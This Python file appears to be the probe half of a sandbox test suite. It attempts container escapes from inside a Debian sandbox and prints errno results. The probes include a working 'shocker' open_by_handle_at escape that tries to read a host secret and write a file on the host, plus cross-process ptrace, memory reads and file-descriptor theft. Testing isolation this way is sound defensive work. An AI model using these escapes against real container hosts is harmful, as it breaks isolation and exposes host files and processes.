"""Escape attempts a RUN makes in the Debian base (see escapes_debian.rs), each printing what
the kernel answered: "ok"-like words when a fence gave way, errno names when it held."""

import ctypes
import errno
import os
import struct
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
PTRACE_ATTACH, PTRACE_DETACH = 16, 17
PR_SET_DUMPABLE = 4
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
libc.syscall.restype = ctypes.c_long


class Iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


libc.process_vm_readv.argtypes = [
    ctypes.c_int,
    ctypes.POINTER(Iovec),
    ctypes.c_ulong,
    ctypes.POINTER(Iovec),
    ctypes.c_ulong,
    ctypes.c_ulong,
]
libc.process_vm_readv.restype = ctypes.c_ssize_t

# Memory every forked process has at the same address: what process_vm_readv tries to read.
MEMORY = ctypes.create_string_buffer(b"sandbox-memory", 32)


def answer(result):
    """The errno name of a failed call (result < 0), or "ok"."""
    if result >= 0:
        return "ok"
    code = ctypes.get_errno()
    return errno.errorcode.get(code, str(code))


def shocker(secret, host):
    """The "shocker" escape: a file handle forged for the root directory of the file system the
    sandbox's tree lies on (ext4's root is inode 2, generation 0), opened by open_by_handle_at
    against a directory of the sandbox, would be the host's root, from which any host path
    opens."""
    handle = ctypes.create_string_buffer(8 + 128)
    struct.pack_into("Ii", handle, 0, 128, 0)
    mount_id = ctypes.c_int()
    at_fdcwd = -100
    found = libc.name_to_handle_at(at_fdcwd, b"/", handle, ctypes.byref(mount_id), 0)
    print("name_to_handle_at", answer(found))
    directory = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    # FILEID_INO32_GEN (inode, generation) and FILEID_INO32_GEN_PARENT (and the parent's).
    for kind, body in ((1, struct.pack("II", 2, 0)), (2, struct.pack("IIII", 2, 0, 2, 0))):
        forged = ctypes.create_string_buffer(struct.pack("Ii", len(body), kind) + body)
        fd = libc.open_by_handle_at(directory, forged, os.O_RDONLY | os.O_DIRECTORY)
        print(f"open_by_handle_at type {kind}", answer(fd))
        if fd < 0:
            continue
        print("OPENED a root with", sorted(os.listdir(fd))[:30])
        try:
            with open(os.open(secret.lstrip("/"), os.O_RDONLY, dir_fd=fd)) as f:
                print("READ the secret:", f.read())
        except OSError as e:
            print("secret:", e)
        try:
            made = os.open(
                host.lstrip("/") + "/escaped-shocker", os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd
            )
            os.close(made)
            print("WROTE on the host")
        except OSError as e:
            print("host:", e)


def attach(pid):
    """PTRACE_ATTACH, then detach again: "ATTACHED" or the errno name."""
    if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
        return answer(-1)
    os.waitpid(pid, 0x40000000)  # __WALL: the tracee need not be a child
    libc.ptrace(PTRACE_DETACH, pid, None, None)
    return "ATTACHED"


def peek(pid):
    """process_vm_readv of MEMORY in `pid`: "READ <what>" or the errno name."""
    local = ctypes.create_string_buffer(32)
    mine = Iovec(ctypes.addressof(local), 14)
    theirs = Iovec(ctypes.addressof(MEMORY), 14)
    n = libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
    return f"READ {local.value.decode()}" if n > 0 else answer(n)


def steal_fd(pid):
    """pidfd_getfd of `pid`'s standard output: "STOLE" or the errno name."""
    pidfd = libc.syscall(434, pid, 0)  # pidfd_open
    if pidfd < 0:
        return "pidfd_open " + answer(pidfd)
    fd = libc.syscall(438, pidfd, 1, 0)  # pidfd_getfd
    os.close(pidfd)
    if fd < 0:
        return answer(fd)
    os.close(fd)
    return "STOLE"


def forked(body):
    """Runs `body()` in a child whose one line of result comes back through a pipe; the child
    then lingers (a target for others) until killed. Returns (pid, line)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        try:
            line = body()
        except Exception as e:  # the line tells the test what went wrong
            line = f"error {e!r}"
        os.write(w, (line + "\n").encode())
        os.close(w)
        time.sleep(60)
        os._exit(0)
    os.close(w)
    with os.fdopen(r) as f:
        return pid, f.readline().strip()


def end(pid):
    os.kill(pid, 9)
    os.waitpid(pid, 0)


def ptrace(host_pid):
    """What of the processes the sandbox can see and reach: the host's (`host_pid`, a process
    of the test with a mark in its command line that must not show here), one of another user
    in the sandbox, and a sibling of the same user."""
    cmdlines = {}
    for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                cmdlines[pid] = f.read().replace(b"\0", b" ").decode(errors="replace").strip()
        except OSError as e:
            cmdlines[pid] = f"? {e}"
        print("process", pid, cmdlines[pid])
    print("host kill", answer(libc.kill(host_pid, 0)))
    print("host attach", attach(host_pid))
    print("host peek", peek(host_pid))

    def as_nobody():
        os.setgid(65534)
        os.setuid(65534)
        libc.prctl(PR_SET_DUMPABLE, 1, 0, 0, 0)
        return f"{attach(os.getppid())} {peek(os.getppid())}"

    nobody, seen = forked(as_nobody)
    print("nobody attaches root", seen)
    print("root attaches nobody", attach(nobody), peek(nobody))
    end(nobody)

    target, _ = forked(lambda: "waiting")
    sibling, seen = forked(lambda: f"{attach(target)} {peek(target)} {steal_fd(target)}")
    print("sibling", seen)
    end(target)
    end(sibling)


def ipc(key):
    """A System V shared-memory segment made with `key` and left behind (no IPC_RMID): "made"
    or the errno name. With an IPC namespace of the sandbox's own it dies with the sandbox."""
    libc.shmget.argtypes = [ctypes.c_int, ctypes.c_size_t, ctypes.c_int]
    ipc_creat, ipc_excl = 0o1000, 0o2000
    made = libc.shmget(key, 4096, ipc_creat | ipc_excl | 0o666)
    print("shmget", "made" if made >= 0 else answer(made))


def refused():
    """What Docker's allow list refuses and a deny list let through: each call's answer."""
    libc.personality.argtypes = [ctypes.c_ulong]
    read_implies_exec = 0x0400000
    print("personality READ_IMPLIES_EXEC", answer(libc.personality(read_implies_exec)))
    print("personality query", answer(libc.personality(0xFFFFFFFF)))
    af_vsock, sock_stream = 40, 1
    print("socket AF_VSOCK", answer(libc.socket(af_vsock, sock_stream, 0)))
    print("socket AF_UNIX", answer(libc.socket(1, sock_stream, 0)))
    print("memfd_secret", answer(libc.syscall(447, 0)))
    print("statmount", answer(libc.syscall(457, 0, 0, 0, 0)))
    print("listmount", answer(libc.syscall(458, 0, 0, 0, 0)))
    # Outside Docker's allow list (granted only with CAP_SYS_ADMIN, or refused by family): the
    # kernel itself would answer EFAULT/EINVAL, or ENOSYS before 6.8, never EPERM.
    print("lsm_list_modules", answer(libc.syscall(461, 0, 0, 0)))
    af_alg, sock_seqpacket = 38, 5
    print("socket AF_ALG", answer(libc.socket(af_alg, sock_seqpacket, 0)))


def setcap(path):
    """cap_net_raw+ep in vfs_cap_data revision 2 (what `setcap cap_net_raw+ep` writes)."""
    value = struct.pack("<IIIII", 0x02000001, 1 << 13, 0, 0, 0)
    os.setxattr(path, "security.capability", value)


if __name__ == "__main__":
    what, args = sys.argv[1], sys.argv[2:]
    if what == "shocker":
        shocker(*args)
    elif what == "ptrace":
        ptrace(int(args[0]))
    elif what == "refused":
        refused()
    elif what == "ipc":
        ipc(int(args[0]))
    elif what == "setcap":
        setcap(args[0])
    else:
        sys.exit(f"unknown probe {what}")
